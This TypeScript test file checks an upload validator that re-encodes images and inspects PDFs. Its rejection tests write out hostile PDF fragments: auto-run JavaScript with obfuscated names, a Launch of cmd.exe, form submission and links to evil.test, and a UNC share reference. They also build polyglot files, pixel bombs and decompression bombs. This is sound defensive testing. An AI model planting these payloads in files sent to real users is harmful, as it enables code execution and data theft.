/** Files from outside: pictures are made anew, PDFs looked at, and what hurts is refused in words. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { findKind } from '#lib/server/ports/files/file-kind.ts';
import { FileError } from '#lib/server/ports/files/limits.ts';
import { readFile } from '#lib/server/ports/files/read-file.ts';
import { pdfOf, pictureOf, pngBomb, predicted, pressed, pressedPdf } from '#tests/support/papers.ts';

const read = (bytes: Buffer) => readFile(new Uint8Array(bytes), 'test');
const zipEnd = Buffer.concat([Buffer.from('504b0506', 'hex'), Buffer.alloc(18)]);

test.each(['jpeg', 'png', 'webp'] as const)('a %s is made anew, without what it carried', async (format) => {
  const read1 = await read(await pictureOf('#336699', format, 3_400));
  expect(read1).toMatchObject({
    kind: 'image',
    contentType: 'image/jpeg',
    width: 3_000,
    height: 2_100,
    pages: 1,
  });
  const { format: stored, exif } = await sharp(read1.stored).metadata();
  expect([stored, exif]).toEqual(['jpeg', undefined]);
  expect(Buffer.from(read1.stored).includes('secret')).toBe(false);
  expect((await sharp(read1.preview).metadata()).width).toBe(1_600);
});

test('a HEIC, as phones take pictures', async () => {
  const file = path.join(import.meta.dirname, 'data/picture.heic');
  const heic = await read(readFileSync(file));
  expect(heic).toMatchObject({ kind: 'image', contentType: 'image/jpeg', width: 64, height: 48 });
  const { dominant } = await sharp(heic.stored).stats();
  expect(dominant.r).toBeGreaterThan(150);
});

test('a picture that lies on its side is set upright', async () => {
  const bytes = await sharp({ create: { width: 300, height: 200, channels: 3, background: 'red' } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer();
  expect(await read(bytes)).toMatchObject({ width: 200, height: 300 });
});

test('a PDF is passed on as it is, with a picture of its first page', async () => {
  const bytes = pdfOf(3);
  const pdf = await read(bytes);
  expect(pdf).toMatchObject({
    kind: 'pdf',
    contentType: 'application/pdf',
    pages: 3,
    width: 1131,
    height: 1600,
  });
  expect(Buffer.from(pdf.stored).equals(bytes)).toBe(true);
  const inside = await sharp(pdf.preview)
    .extract({ left: 300, top: 1_100, width: 50, height: 50 })
    .toBuffer();
  const { dominant } = await sharp(inside).stats();
  expect(dominant).toMatchObject({ r: 8, g: 8, b: 8 });
});

test.each([
  ['pressed', pressed],
  ['pressed as differences', predicted],
  ['not pressed', (data: Buffer) => ({ entries: '', data })],
  [
    'pressed, its dictionary with a comment',
    (data: Buffer) => {
      const { entries, data: bytes } = pressed(data);
      return { entries: `% >>\n/Note (\\(>> stream\nendobj) ${entries}`, data: bytes };
    },
  ],
] as const)('a PDF whose objects are %s is looked into', async (_, press) => {
  // The way to the first page, and a link that somebody has to press, start nothing.
  for (const tame of ['/OpenAction [4 0 R /Fit]', '/A << /S /URI /URI (https://a.test) >>'])
    expect(await read(pressedPdf(tame, press))).toMatchObject({ kind: 'pdf', pages: 1 });
  for (const evil of [
    '/OpenAction << /S /JavaScript /JS (app.alert) >>',
    '/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>',
    '/AA << /WC << /S /Launch /F (cmd.exe) >> >>',
    '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 9 0 R >> >>] >> >>',
    '/AcroForm << /Fields [] /XFA 9 0 R >>',
    '/OpenAction << /S /SubmitForm /F (https://evil.test) >>',
    '/OpenAction << /S /GoToR /F (\\\\evil.test\\share\\a.pdf) /D [0 /Fit] >>',
    '/OpenAction << /S /URI /URI (https://evil.test) >>',
    '/OpenAction << /S /GoTo /Next << /S /#55RI /URI (https://evil.test) >> >>',
    '/AA << /O 9 0 R >> /A << /S /URI /URI (https://evil.test) >>',
  ]) {
    const look = () => findKind(pressedPdf(evil, press));
    expect(look, evil).toThrow(new FileError('含有脚本或附件，请另存为普通 PDF 或拍照上传'));
  }
});

const harmless = pressed(Buffer.from('1 0 '));

test.each<[string, () => Buffer, string]>([
  ['a PDF that is encrypted', () => pdfOf(1, '/Encrypt 9 0 R'), '已加密'],
  ['a PDF that is encrypted in hiding', () => pdfOf(1, '/#45ncrypt<</Filter /Standard>>'), '已加密'],
  [
    'a PDF whose objects inflate to a hundred megabytes',
    () => pressedPdf('', () => pressed(Buffer.alloc(100_000_000))),
    '展开后过大',
  ],
  [
    'a PDF of objects that are pressed twice',
    () =>
      pressedPdf('', (content) => ({
        entries: '/Filter [/ASCIIHexDecode /FlateDecode]',
        data: Buffer.from(pressed(content).data.toString('hex')),
      })),
    '压缩方式无法检查',
  ],
  [
    'a PDF of objects that say in two ways how they are pressed',
    () => pressedPdf('', (content) => ({ ...pressed(content), entries: '/Filter /Fl /Filter /LZWDecode' })),
    '压缩方式无法检查',
  ],
  [
    'a PDF of objects whose difference is told elsewhere',
    () => pressedPdf('', (content) => ({ ...pressed(content), entries: '/Filter /Fl /DecodeParms 9 0 R' })),
    '压缩方式无法检查',
  ],
  [
    'a PDF whose objects are described brokenly',
    () => pressedPdf('', () => ({ ...harmless, entries: '/Filter /FlateDecode 7' })),
    '压缩方式无法检查',
  ],
])('%s is not taken', (_, make, says) => {
  expect(() => findKind(make())).toThrow(says);
});

test.each<[string, () => Buffer | Promise<Buffer>, string]>([
  ['nothing', () => Buffer.alloc(0), '空文件'],
  ['a text', () => Buffer.from('药品经营许可证'), '格式不支持'],
  ['an SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), '格式不支持'],
  ['a program', () => Buffer.from('MZ'.padEnd(100)), '格式不支持'],
  ['half a picture', async () => (await pictureOf('#123456', 'png')).subarray(0, 300), '已损坏'],
  ['a head and nothing else', () => Buffer.from('ffd8ffe000104a464946', 'hex'), '已损坏'],
  ['a HEIC of nonsense', () => Buffer.from(`\0\0\0\x18ftypheic${'x'.repeat(400)}`, 'latin1'), '已损坏'],
  ['a bomb of pixels', () => pngBomb(20_000), '像素过大'],
  [
    'a picture with an archive behind it',
    async () => Buffer.concat([await pictureOf('red'), zipEnd]),
    '另一种格式',
  ],
  ['a PDF with an archive behind it', () => Buffer.concat([pdfOf(), zipEnd]), '另一种格式'],
  [
    'a PDF with a page behind it',
    () => Buffer.concat([pdfOf(), Buffer.from('<script>1</script>')]),
    '另一种格式',
  ],
  [
    'a picture that is a PDF too',
    async () => {
      const picture = await pictureOf('red');
      return Buffer.concat([
        picture.subarray(0, 2),
        Buffer.from('fffe0009', 'hex'),
        Buffer.from('%PDF-1.'),
        picture.subarray(2),
      ]);
    },
    '另一种格式',
  ],
  [
    'a PDF that runs a script',
    () => pdfOf(1, '/OpenAction << /S /JavaScript /JS (app.alert) >>'),
    '脚本或附件',
  ],
  ['a PDF of nonsense', () => Buffer.from('%PDF-1.4\nnothing\n%%EOF'), '已损坏'],
  ['a PDF of many pages', () => pdfOf(51), '超过50页'],
  ['a file of more than 10 MB', () => Buffer.alloc(10 * 1024 * 1024 + 1), '超过 10 MB'],
])('%s is refused in words', async (_, make, says) => {
  const refused = await read(await make()).catch((error: unknown) => error);
  expect(refused).toBeInstanceOf(FileError);
  expect((refused as FileError).message).toContain(says);
});
